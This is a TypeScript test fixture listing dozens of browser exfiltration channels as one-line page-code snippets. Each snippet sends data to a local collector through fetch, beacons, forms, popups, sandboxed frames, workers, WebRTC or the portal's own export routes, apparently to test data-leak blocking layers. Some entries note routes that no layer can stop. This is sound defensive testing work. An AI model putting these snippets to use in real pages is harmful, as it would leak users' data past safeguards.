import type { BrowserKind } from '../../support/browsers';

/** Who promises to stop a channel. `none`: nobody can; the README says so. */
export type Layer = 'L0' | 'L1' | 'L2' | 'L3' | 'L4' | 'none';

export interface Channel {
  /** Part of every address that the channel uses. */
  readonly name: string;
  readonly layer: Layer;
  /** Page code. Helpers of `pages.ts` are in scope; `out(name, ending)` is an address of the collector. */
  readonly code: string;
  /** Moves the page, opens a window, or needs a page of its own for another reason; the others share pages. */
  readonly alone?: true;
  /** Query of the page that is opened, besides the member. */
  readonly query?: string;
  /** Browsers that do not have it: the positive control is not expected there. */
  readonly missingIn?: readonly BrowserKind[];
  /** Browsers in which nobody stops it, although another does. */
  readonly openIn?: readonly BrowserKind[];
  /** Why nobody stops it. */
  readonly reason?: string;
}

const own = (name: string) => `location.origin + '/fax/hit/${name}'`;

const requests: readonly Channel[] = [
  { name: 'fetch', layer: 'L0', code: `fetch(out('fetch'))` },
  { name: 'fetch-far', layer: 'L0', code: `fetch(far('fetch-far'), { method: 'POST', body: 'x' })` },
  { name: 'fetch-no-cors', layer: 'L0', code: `fetch(out('fetch-no-cors'), { mode: 'no-cors' })` },
  {
    name: 'fetch-keepalive',
    layer: 'L0',
    code: `fetch(out('fetch-keepalive'), { method: 'POST', body: 'x', keepalive: true, mode: 'no-cors' })`,
  },
  { name: 'fetch-redirect', layer: 'L0', code: `fetch('/redirect/hit/fetch-redirect')` },
  {
    name: 'fetch-request-object',
    layer: 'L0',
    code: `fetch(new Request(out('fetch-request-object'), { mode: 'no-cors' }))`,
  },
  {
    name: 'fetch-later',
    layer: 'L0',
    code: `fetchLater(out('fetch-later'), { activateAfter: 0 })`,
    missingIn: ['firefox'],
  },
  { name: 'xhr', layer: 'L0', code: `{ const x = new XMLHttpRequest(); x.open('POST', out('xhr')); x.send('x'); }` },
  {
    name: 'xhr-sync',
    layer: 'L0',
    code: `{ const x = new XMLHttpRequest(); x.open('GET', out('xhr-sync'), false); x.send(); }`,
  },
  { name: 'beacon', layer: 'L0', code: `navigator.sendBeacon(out('beacon'), 'x')` },
  {
    name: 'beacon-unload',
    layer: 'L0',
    alone: true,
    code: `addEventListener('pagehide', () => navigator.sendBeacon(out('beacon-unload'), 'x')); location.href = '/page?after'`,
  },
  {
    name: 'fetch-unload',
    layer: 'L0',
    alone: true,
    code: `addEventListener('pagehide', () => fetch(out('fetch-unload'), { keepalive: true, mode: 'no-cors' })); location.href = '/page?after'`,
  },
  { name: 'event-source', layer: 'L0', code: `new EventSource(out('event-source', '/stream'))` },
  { name: 'websocket', layer: 'L0', code: `new WebSocket(out('websocket').replace('http', 'ws'))` },
  {
    name: 'websocket-pristine',
    layer: 'L0',
    code: `new pristine.WebSocket(out('websocket-pristine').replace('http', 'ws'))`,
  },
  {
    name: 'preconnect',
    layer: 'none',
    code: `element('<link rel=preconnect href="http://localhost:' + ports.connections + '">')`,
    reason: 'A connection made in advance carries no request, only a host name.',
  },
  { name: 'prefetch', layer: 'L0', code: `element('<link rel=prefetch href="' + out('prefetch') + '">')` },
  {
    name: 'preload',
    layer: 'L0',
    code: `element('<link rel=preload as=image href="' + out('preload', '.gif') + '">')`,
  },
  {
    name: 'module-preload',
    layer: 'L0',
    code: `element('<link rel=modulepreload href="' + out('module-preload', '.js') + '">')`,
  },
  {
    name: 'speculation-rules',
    layer: 'L0',
    code: `{ const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [out('speculation-rules')], eagerness: 'immediate' }] }); document.head.append(s); }`,
    missingIn: ['firefox'],
  },
  {
    name: 'web-manifest',
    layer: 'L0',
    code: `element('<link rel=manifest href="' + out('web-manifest') + '">')`,
    missingIn: ['chromium', 'firefox'],
  },
  {
    name: 'csp-report',
    layer: 'L0',
    alone: true,
    query: 'report=csp-report',
    code: `new Image().src = '/blocked.gif'`,
  },
];

const elements: readonly Channel[] = [
  { name: 'image', layer: 'L0', code: `new Image().src = out('image', '.gif')` },
  { name: 'image-srcset', layer: 'L0', code: `element('<img srcset="' + out('image-srcset', '.gif') + ' 1x">')` },
  { name: 'image-redirect', layer: 'L0', code: `new Image().src = '/redirect/hit/image-redirect'` },
  {
    name: 'css-background',
    layer: 'L0',
    code: `element('<div style="width:9px;height:9px;background:url(' + out('css-background', '.gif') + ')">')`,
  },
  { name: 'css-import', layer: 'L0', code: `element('<style>@import "' + out('css-import', '.css') + '";</style>')` },
  {
    name: 'css-attribute',
    layer: 'L0',
    code: `element('<input value="9">'); element('<style>input[value^="9"] { background: url(' + out('css-attribute', '.gif') + ') }</style>')`,
  },
  {
    name: 'stylesheet',
    layer: 'L0',
    code: `element('<link rel=stylesheet href="' + out('stylesheet', '.css') + '">')`,
  },
  { name: 'font', layer: 'L0', code: `new FontFace('x', 'url(' + out('font') + ')').load().catch(() => 0)` },
  {
    name: 'script',
    layer: 'L0',
    code: `{ const s = document.createElement('script'); s.src = out('script', '.js'); document.head.append(s); }`,
  },
  { name: 'import', layer: 'L0', code: `import(out('import', '.js')).catch(() => 0)` },
  { name: 'audio', layer: 'L0', code: `new Audio(out('audio')).play().catch(() => 0)` },
  { name: 'video', layer: 'L0', code: `element('<video autoplay muted src="' + out('video') + '">')` },
  {
    name: 'svg-image',
    layer: 'L0',
    code: `element('<svg><image href="' + out('svg-image', '.gif') + '" width="9" height="9"/></svg>')`,
  },
  { name: 'object', layer: 'L0', code: `element('<object data="' + out('object') + '">')` },
  { name: 'embed', layer: 'L0', code: `element('<embed src="' + out('embed') + '">')` },
  {
    name: 'audio-worklet',
    layer: 'L0',
    code: `new AudioContext().audioWorklet.addModule(out('audio-worklet', '.js')).catch(() => 0)`,
  },
];

const navigations: readonly Channel[] = [
  {
    name: 'form-click',
    layer: 'L0',
    code: `element('<form method=post action="' + out('form-click') + '"><button>Save</button></form>').querySelector('button').click()`,
  },
  {
    name: 'form-submit',
    layer: 'L0',
    code: `element('<form method=post action="' + out('form-submit') + '"><input name=a value=1></form>').submit()`,
  },
  {
    name: 'form-submit-pristine',
    layer: 'L0',
    code: `pristine.HTMLFormElement.prototype.submit.call(element('<form action="' + out('form-submit-pristine') + '"></form>'))`,
  },
  {
    name: 'form-request-submit',
    layer: 'L0',
    code: `element('<form method=post action="' + out('form-request-submit') + '"></form>').requestSubmit()`,
  },
  {
    name: 'form-to-frame',
    layer: 'L0',
    code: `frame({ name: 'target' }, false); element('<form method=post target=target action="' + out('form-to-frame') + '"></form>').submit()`,
  },
  {
    name: 'form-to-window',
    layer: 'L0',
    code: `element('<form method=post target=_blank action="' + out('form-to-window') + '"></form>').submit()`,
  },
  {
    name: 'form-redirect',
    layer: 'L0',
    code: `element('<form action="/redirect/hit/form-redirect"></form>').submit()`,
  },
  { name: 'link', layer: 'L0', code: `element('<a href="' + out('link') + '">Next</a>').click()` },
  {
    name: 'link-to-window',
    layer: 'L0',
    code: `element('<a target=_blank href="' + out('link-to-window') + '">Next</a>').click()`,
  },
  {
    name: 'link-ping',
    layer: 'L0',
    code: `element('<a ping="' + out('link-ping') + '" href="#here">Next</a>').click()`,
    missingIn: ['firefox'],
  },
  {
    name: 'link-download',
    layer: 'L0',
    code: `element('<a download href="' + out('link-download') + '">Next</a>').click()`,
  },
  { name: 'location-href', layer: 'L0', code: `location.href = out('location-href')` },
  { name: 'location-replace', layer: 'L0', code: `location.replace(out('location-replace'))` },
  { name: 'location-redirect', layer: 'L0', code: `location.href = '/redirect/hit/location-redirect'` },
  {
    name: 'navigation-navigate',
    layer: 'L0',
    code: `navigation.navigate(out('navigation-navigate')).finished.catch(() => 0)`,
  },
  {
    name: 'meta-refresh',
    layer: 'L0',
    code: `{ const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=' + out('meta-refresh'); document.head.append(m); }`,
  },
  { name: 'window-open', layer: 'L0', code: `window.open(out('window-open'))` },
  { name: 'window-open-pristine', layer: 'L0', code: `pristine.open.call(window, out('window-open-pristine'))` },
  {
    name: 'window-open-noopener',
    layer: 'L0',
    code: `pristine.open.call(window, out('window-open-noopener'), '_blank', 'noopener')`,
  },
  {
    name: 'popup-blank-fetch',
    layer: 'L0',
    code: `{ const w = pristine.open.call(window, 'about:blank'); w.fetch(out('popup-blank-fetch'), { mode: 'no-cors' }).catch(() => 0); setTimeout(() => w.fetch(out('popup-blank-fetch'), { mode: 'no-cors' }).catch(() => 0), 150); }`,
  },
  {
    name: 'popup-location',
    layer: 'L0',
    code: `{ const w = pristine.open.call(window, 'about:blank'); setTimeout(() => { w.location = out('popup-location') }, 150); }`,
  },
  {
    name: 'popup-image',
    layer: 'L0',
    code: `{ const w = pristine.open.call(window, '/page?popup'); setTimeout(() => { new w.Image().src = out('popup-image', '.gif') }, 400); }`,
  },
];

const realms: readonly Channel[] = [
  { name: 'frame-src', layer: 'L0', code: `frame({ src: out('frame-src') }, false)` },
  {
    name: 'frame-srcdoc',
    layer: 'L0',
    code: `frame({ srcdoc: '<img src="' + out('frame-srcdoc', '.gif') + '">' }, false)`,
  },
  {
    name: 'frame-data',
    layer: 'L0',
    code: `frame({ src: 'data:text/html,<img src="' + out('frame-data', '.gif') + '">' }, false)`,
  },
  {
    name: 'frame-blob',
    layer: 'L0',
    code: `frame({ src: URL.createObjectURL(new Blob(['<img src="' + out('frame-blob', '.gif') + '">'], { type: 'text/html' })) }, false)`,
  },
  {
    name: 'frame-javascript',
    layer: 'L0',
    code: `frame({ src: 'javascript:fetch("' + out('frame-javascript') + '", { mode: "no-cors" })' }, false)`,
  },
  {
    name: 'frame-sandboxed',
    layer: 'L0',
    code: `frame({ sandbox: 'allow-scripts', srcdoc: '<script>fetch("' + out('frame-sandboxed') + '", { mode: "no-cors" })<' + '/script>' }, false)`,
  },
  {
    name: 'frame-sandboxed-top',
    layer: 'L0',
    alone: true,
    code: `frame({ sandbox: 'allow-scripts allow-top-navigation', srcdoc: '<script>top.location = "' + out('frame-sandboxed-top') + '"<' + '/script>' }, false)`,
    openIn: ['chromium'],
    reason:
      'A sandboxed frame names nobody as initiator, so Chromium’s rules cannot tell its navigation from a typed address.',
  },
  {
    name: 'frame-sandboxed-popup',
    layer: 'L0',
    alone: true,
    code: `frame({ sandbox: 'allow-scripts allow-popups', srcdoc: '<script>open("' + out('frame-sandboxed-popup') + '")<' + '/script>' }, false)`,
  },
  { name: 'pristine-fetch', layer: 'L0', code: `pristine.fetch(out('pristine-fetch'), { mode: 'no-cors' })` },
  {
    name: 'pristine-new-frame',
    layer: 'L0',
    code: `frame({}, false).then((f) => f.contentWindow.fetch(out('pristine-new-frame'), { mode: 'no-cors' }))`,
  },
  {
    name: 'pristine-own-page',
    layer: 'L0',
    code: `frame({ src: '/page?inner' }).then((f) => f.contentWindow.fetch(out('pristine-own-page'), { mode: 'no-cors' }))`,
  },
  { name: 'worker', layer: 'L0', code: `new Worker('/worker.js').postMessage([out('worker'), { mode: 'no-cors' }])` },
  {
    name: 'worker-blob',
    layer: 'L0',
    code: `new Worker(URL.createObjectURL(new Blob(['fetch("' + out('worker-blob') + '", { mode: "no-cors" })'])))`,
  },
  {
    name: 'worker-import',
    layer: 'L0',
    code: `new Worker(URL.createObjectURL(new Blob(['importScripts("' + out('worker-import', '.js') + '")'])))`,
  },
  {
    name: 'worker-websocket',
    layer: 'L0',
    code: `new Worker(URL.createObjectURL(new Blob(['new WebSocket("' + out('worker-websocket').replace('http', 'ws') + '")'])))`,
  },
  {
    name: 'shared-worker',
    layer: 'L0',
    code: `{ const w = new SharedWorker('/shared.js'); w.port.start(); w.port.postMessage([out('shared-worker'), { mode: 'no-cors' }]); }`,
  },
  {
    name: 'service-worker',
    layer: 'L0',
    code: `navigator.serviceWorker.register('/sw.js').then(() => navigator.serviceWorker.ready).then((r) => r.active.postMessage([out('service-worker'), { mode: 'no-cors' }]))`,
  },
  {
    name: 'service-worker-carry',
    layer: 'L0',
    code: `navigator.serviceWorker.register('/sw.js').then(() => navigator.serviceWorker.ready).then(() => wait(150)).then(() => fetch('/api/x?carry=' + encodeURIComponent(out('service-worker-carry'))))`,
  },
  {
    name: 'background-fetch',
    layer: 'L0',
    code: `navigator.serviceWorker.register('/sw.js').then(() => navigator.serviceWorker.ready).then((r) => r.backgroundFetch.fetch('x', [out('background-fetch')]))`,
    missingIn: ['firefox', 'chromium'],
  },
  {
    name: 'broadcast-other-tab',
    layer: 'L0',
    alone: true,
    query: 'other-tab',
    code: `new BroadcastChannel('carry').postMessage(out('broadcast-other-tab'))`,
  },
  {
    name: 'webrtc-stun',
    layer: 'none',
    alone: true,
    code: `{ const p = new pristine.RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + ports.stun }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o)); }`,
    reason: 'WebRTC traffic is no request; browsers let extensions neither see nor stop it.',
  },
  {
    name: 'webtransport',
    layer: 'L3',
    alone: true,
    code: `new WebTransport('https://127.0.0.1:' + ports.quic + '/hit/webtransport').ready.catch(() => 0)`,
  },
];

/** Ways out through the portal's own server: the address looks like a share. */
const portalRoutes: readonly Channel[] = [
  { name: 'own-fetch', layer: 'L0', code: `fetch(${own('own-fetch')}, { method: 'POST', body: 'x' })` },
  {
    name: 'own-fetch-pristine',
    layer: 'L0',
    code: `pristine.fetch(${own('own-fetch-pristine')}, { method: 'POST', body: 'x' })`,
  },
  { name: 'own-put', layer: 'L0', code: `pristine.fetch(${own('own-put')}, { method: 'PUT', body: 'x' })` },
  {
    name: 'own-xhr-sync',
    layer: 'L0',
    code: `{ const x = new XMLHttpRequest(); x.open('POST', ${own('own-xhr-sync')}, false); x.send('x'); }`,
  },
  { name: 'own-beacon', layer: 'L0', code: `navigator.sendBeacon(${own('own-beacon')}, 'x')` },
  {
    name: 'own-form-submit',
    layer: 'L0',
    alone: true,
    code: `element('<form method=post action="' + ${own('own-form-submit')} + '"><input name=a value=1></form>').submit()`,
  },
  {
    name: 'own-form-to-window',
    layer: 'L0',
    alone: true,
    code: `pristine.HTMLFormElement.prototype.submit.call(element('<form method=post target=_blank action="' + ${own('own-form-to-window')} + '"></form>'))`,
  },
  {
    name: 'own-worker',
    layer: 'L0',
    code: `new Worker('/worker.js').postMessage([${own('own-worker')}, { method: 'POST', body: 'x' }])`,
  },
  {
    name: 'own-service-worker',
    layer: 'L0',
    code: `navigator.serviceWorker.register('/sw.js').then(() => navigator.serviceWorker.ready).then((r) => r.active.postMessage([${own('own-service-worker')}, { method: 'POST', body: 'x' }]))`,
  },
  {
    name: 'own-export-link',
    layer: 'L0',
    alone: true,
    code: `element('<a href="/export/ccda/hit/own-export-link">C-CDA</a>').click()`,
  },
  {
    name: 'own-export-window',
    layer: 'L0',
    alone: true,
    code: `pristine.open.call(window, '/export/ccda/hit/own-export-window')`,
  },
  { name: 'own-export-frame', layer: 'L0', code: `frame({ src: '/export/ccda/hit/own-export-frame' }, false)` },
  { name: 'own-export-fetch', layer: 'L0', code: `pristine.fetch('/export/ccda/hit/own-export-fetch')` },
  {
    name: 'own-export-download',
    layer: 'L0',
    alone: true,
    code: `element('<a download="x.xml" href="/export/ccda/hit/own-export-download">Save</a>').click()`,
  },
];

/** A page that sends before anybody can have read it: its first inline script. */
const early: readonly Channel[] = [
  { name: 'first-script', layer: 'L0', alone: true, query: 'early=first-script', code: `0` },
];

const alone = (channels: readonly Channel[]) => channels.map((channel): Channel => ({ ...channel, alone: true }));

export const CHANNELS: readonly Channel[] = [
  ...requests,
  ...elements,
  ...alone(navigations),
  ...realms,
  ...portalRoutes,
  ...early,
];
